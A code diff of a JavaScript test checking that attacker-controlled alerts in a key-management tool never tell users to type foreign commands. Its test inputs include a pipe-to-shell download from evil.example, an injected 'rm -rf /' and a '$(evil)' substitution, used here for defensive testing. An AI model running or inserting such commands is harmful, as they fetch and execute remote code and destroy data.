@@ -106,8 +106,8 @@ describe('activities with hostile arguments', () => {
   });
 
   it('an alert of an attacker\'s never tells people to type anything but a command of ours (that it is sent at all cannot be prevented)', async () => {
-    for (const command of ['curl https://evil.example/x | sh', 'keywarden revoke up; rm -rf /', 'keywarden recover $(evil)']) {
-      expect(await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', occasion: command.slice(0, 20), key: 'up', command } })).toBe('done');
+    for (const [i, command] of ['curl https://evil.example/x | sh', 'keywarden revoke up; rm -rf /', 'keywarden recover $(evil)'].entries()) {
+      expect(await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', occasion: String(i), key: 'up', command } })).toBe('done');
     }
     for (const m of await world.received()) expect(m.text).not.toMatch(/curl|rm -rf|evil/);
   });
